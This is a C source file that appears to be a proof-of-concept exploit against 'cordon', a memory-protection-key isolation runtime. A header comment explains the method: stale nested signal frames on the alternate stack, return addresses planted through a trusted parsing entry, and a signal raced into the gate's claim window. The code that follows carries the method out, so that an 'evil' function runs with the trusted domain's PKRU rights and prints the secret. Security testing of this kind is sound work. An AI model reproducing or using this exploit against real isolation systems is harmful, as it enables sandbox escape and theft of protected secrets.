// 6.12 (frames on the runtime's alternate stack): a stale, parked-and-resumed
// signal frame of trusted code is replayed by a jump to the signal entry.
//
// The entry trusts any frame of domain code on this thread's alternate stack
// as long as the thread's record of that domain is "in use, no callback, no
// handler" (RECORD_RUNNING_DOMAIN_CODE). A record is in that state not only
// while the domain's code runs, but also while a gate's claim is cut off by a
// signal (after its lock cmpxchg, before mov rsp): the signal is rewound and
// the program's handler runs untrusted code with the record held. Frames
// stay on the alternate stack after they were resumed (nothing wipes them),
// and nested frames lie below the top one, where later signals do not
// overwrite them.
//
//  1. Nest three domain-code signals: D2 code interrupted (frame at the top,
//     parked), its handler enters D3, interrupted (parked below), its handler
//     enters D1 (the trusted domain), interrupted: frame F at depth 3. The
//     handler reads the shrunk alternate stack with a sigaltstack query: F is
//     just above it. All three return normally; F stays, unwiped.
//  2. A D1 entry that copies 2 KiB of untrusted input into a stack buffer
//     (the usual parse-into-a-local pattern) leaves the attacker's bytes on
//     D1's trusted stack, where F's interrupted code keeps its return address.
//  3. A second thread floods this one with SIGUSR2 while it makes D1 gate
//     calls. The handler recognises a frame rewound from after the claim
//     (ZF set, rax = the record), i.e. D1's record is held, and jumps to
//     cordon_signal_entry with rsp = F. Every check passes; the runtime
//     parks F, runs the SIGUSR1 handler, and resumes F with D1's PKRU.
//  4. F's code returns through the planted return address into the
//     attacker's function, with D1's PKRU: it reads the secret directly.
#define _GNU_SOURCE
#include <cordon/cordon.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

extern __thread uint32_t cordon_tls_records[];
extern char cordon_gates_begin[], cordon_gates_end[];

static cordon_entry g_gen, g_hash, g_spin[3], g_fill, g_nop;
static uint8_t* g_secret;
static volatile int g_in[3], g_go[3];
static volatile int g_level, g_phase, g_flood, g_stop;
static volatile uint64_t g_F, g_hits, g_usr2, g_replayed;
static volatile pid_t g_tid;
static uintptr_t g_d1_lo, g_d1_hi;
static void* g_entry;

static uint64_t fnv(const uint8_t* p, size_t n) {
  uint64_t h = 1469598103934665603ull;
  for (size_t i = 0; i < n; i++) h = (h ^ p[i]) * 1099511628211ull;
  return h;
}
static char* hex(char* o, uint64_t v, int digits) {
  for (int i = digits - 1; i >= 0; i--) { o[i] = "0123456789abcdef"[v & 15]; v >>= 4; }
  return o + digits;
}
static void say(const char* s) { (void)!write(1, s, strlen(s)); }

// ---- trusted code (domain 1) ----
static uint64_t e_gen(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  void* p = 0;
  if (cordon_malloc(32, &p) != 0 || cordon_random_bytes(p, 32) != 0) return 0;
  return (uint64_t)p;
}
static uint64_t e_hash(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return fnv(g_secret, 32);
}
// A trusted entry that waits for an untrusted flag (any entry that takes a while).
static __attribute__((noinline)) void spin_inner(volatile int* in, volatile int* go) {
  *in = 1;
  while (!*go) __builtin_ia32_pause();
}
static uint64_t e_spin1(uint64_t in, uint64_t go, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  volatile char pad[512];
  pad[0] = 1;
  pad[511] = 2;
  spin_inner((volatile int*)in, (volatile int*)go);
  return pad[0] + pad[511];
}
// A trusted entry that parses untrusted input from a local copy.
static uint64_t e_fill(uint64_t in, uint64_t len, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  char buf[2048];
  if (len > sizeof buf || !cordon_is_untrusted_range((void*)in, len)) return (uint64_t)-1;
  memcpy(buf, (void*)in, len);
  uint64_t s = 0;
  for (size_t i = 0; i < len; i += 64) s += (unsigned char)buf[i];
  asm volatile("" ::"r"(buf) : "memory");
  return s;
}
static uint64_t e_nop(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return 7;
}
// ---- domains 2 and 3 ----
static uint64_t e_spin(uint64_t in, uint64_t go, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  *(volatile int*)in = 1;
  while (!*(volatile int*)go) __builtin_ia32_pause();
  return 0;
}

// ---- the attacker ----
void evil_c(void) {
  uint32_t pkru;
  asm volatile("rdpkru" : "=a"(pkru) : "c"(0) : "rdx");
  char m[256], *o = m;
  const char* a = "evil: attacker code running with PKRU ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  o = hex(o, pkru, 8);
  a = "; secret read directly: ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  for (int i = 0; i < 32; i++) o = hex(o, g_secret[i], 2);  // a trusted read, with D1's rights
  a = "  fnv ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  o = hex(o, fnv(g_secret, 32), 16);
  *o++ = '\n';
  syscall(SYS_write, 1, m, o - m);
  syscall(SYS_exit_group, 0);
}
asm(".text\n.globl evil\nevil:\n and rsp, -16\n call evil_c\n ud2\n");
extern void evil(void);

static void nest(int k) {
  g_level = k;
  cordon_call(g_spin[k], (uint64_t)&g_in[k], (uint64_t)&g_go[k], 0, 0, 0);
}
static void on_usr1(int s, siginfo_t* si, void* uc) {
  (void)s; (void)si; (void)uc;
  if (g_phase != 0) { g_replayed++; return; }
  const int k = g_level;
  if (k < 2) {
    nest(k + 1);
  } else {
    stack_t ss;
    sigaltstack(NULL, &ss);  // a query: the alternate stack, shrunk to below D1's parked frame
    g_F = (uint64_t)ss.ss_sp + ss.ss_size + 256;
  }
  g_go[k] = 1;
}
static void on_usr2(int s, siginfo_t* si, void* ucv) {
  (void)s; (void)si;
  greg_t* g = ((ucontext_t*)ucv)->uc_mcontext.gregs;
  g_usr2++;
  const uintptr_t rip = g[REG_RIP], rax = g[REG_RAX];
  // A frame from after the claim, rewound: ZF from the successful cmpxchg,
  // rax the claimed record of domain 1.
  if (!(g[REG_EFL] & 0x40) || rax < g_d1_lo || rax >= g_d1_hi || rip < (uintptr_t)cordon_gates_begin ||
      rip >= (uintptr_t)cordon_gates_end || g[REG_RCX] != 0 || g[REG_RDX] != 0)
    return;
  g_stop = 1;
  char m[200], *o = m;
  const char* a = "attacker: claim cut off by a signal (signal ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  o = hex(o, g_usr2, 8);
  a = "), record ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  o = hex(o, rax, 16);
  a = " held; jumping to the signal entry with rsp = F\n";
  memcpy(o, a, strlen(a)); o += strlen(a);
  (void)!write(1, m, o - m);
  const uint32_t idx = cordon_tls_records[1];
  asm volatile("vmovd xmm15, %k2\n mov rsp, %0\n jmp %1\n" ::"r"(g_F), "r"(g_entry), "r"(idx) : "memory");
}

static void* flooder(void* arg) {
  (void)arg;
  const pid_t pid = getpid();
  for (int k = 0; k < 3; k++) {
    while (!g_in[k]) {}
    syscall(SYS_tgkill, pid, g_tid, SIGUSR1);
  }
  while (!g_flood) {}
  while (!g_stop) syscall(SYS_tgkill, pid, g_tid, SIGUSR2);
  return 0;
}

int main(void) {
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0) { say("init failed\n"); return 1; }
  cordon_domain_t d1 = cordon_trusted_domain(), d2, d3;
  if (cordon_domain_create("two", &d2) != 0 || cordon_domain_create("three", &d3) != 0) {
    say("domain_create failed\n");
    return 1;
  }
  cordon_register(d1, e_gen, "gen", &g_gen);
  cordon_register(d1, e_hash, "hash", &g_hash);
  cordon_register(d1, e_fill, "fill", &g_fill);
  cordon_register(d1, e_nop, "nop", &g_nop);
  cordon_register(d2, e_spin, "spin2", &g_spin[0]);
  cordon_register(d3, e_spin, "spin3", &g_spin[1]);
  cordon_register(d1, e_spin1, "spin1", &g_spin[2]);
  g_secret = (uint8_t*)cordon_call(g_gen, 0, 0, 0, 0, 0);
  const void* start;
  size_t size;
  cordon_domain_region(d1, &start, &size);
  g_d1_lo = (uintptr_t)start;
  g_d1_hi = g_d1_lo + size;
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_sigaction = on_usr1;
  sa.sa_flags = SA_SIGINFO | SA_NODEFER;
  if (cordon_sigaction(SIGUSR1, &sa, 0) != 0) { say("sigaction failed\n"); return 1; }
  sa.sa_sigaction = on_usr2;
  sa.sa_flags = SA_SIGINFO;
  if (cordon_sigaction(SIGUSR2, &sa, 0) != 0) { say("sigaction failed\n"); return 1; }
  printf("secret at %p (domain 1 region %#lx-%#lx), fnv through the gate %016llx\n", (void*)g_secret,
         (unsigned long)g_d1_lo, (unsigned long)g_d1_hi, (unsigned long long)cordon_call(g_hash, 0, 0, 0, 0, 0));
  fflush(stdout);
  int rc = cordon_lockdown();
  if (rc != 0) { printf("lockdown failed: %d\n", rc); return 1; }
  struct sigaction cur;
  sigaction(SIGUSR2, NULL, &cur);  // a query: the runtime's entry
  g_entry = (void*)cur.sa_sigaction;
  g_tid = gettid();
  pthread_t t;
  pthread_create(&t, 0, flooder, 0);

  // 1. A parked, then resumed, frame of D1 code at depth 3 of the alternate stack.
  nest(0);
  printf("step 1: nested D2, D3, D1 signals done; stale D1 frame F at %#llx\n", (unsigned long long)g_F);
  // 2. Plant return addresses on D1's trusted stack through an ordinary entry.
  static uint64_t input[256];
  for (int i = 0; i < 256; i++) input[i] = (uint64_t)evil;
  printf("step 2: fill() returned %#llx; evil at %p\n",
         (unsigned long long)cordon_call(g_fill, (uint64_t)input, sizeof input, 0, 0, 0), (void*)evil);
  fflush(stdout);
  // 3. Race a signal into the claim window of D1's gate.
  g_phase = 1;
  g_flood = 1;
  for (uint64_t i = 0;; i++) {
    cordon_call(g_nop, 0, 0, 0, 0, 0);
    if ((i & 0xfffff) == 0 && i) {
      printf("... %llu calls, %llu SIGUSR2\n", (unsigned long long)i, (unsigned long long)g_usr2);
      fflush(stdout);
    }
  }
}
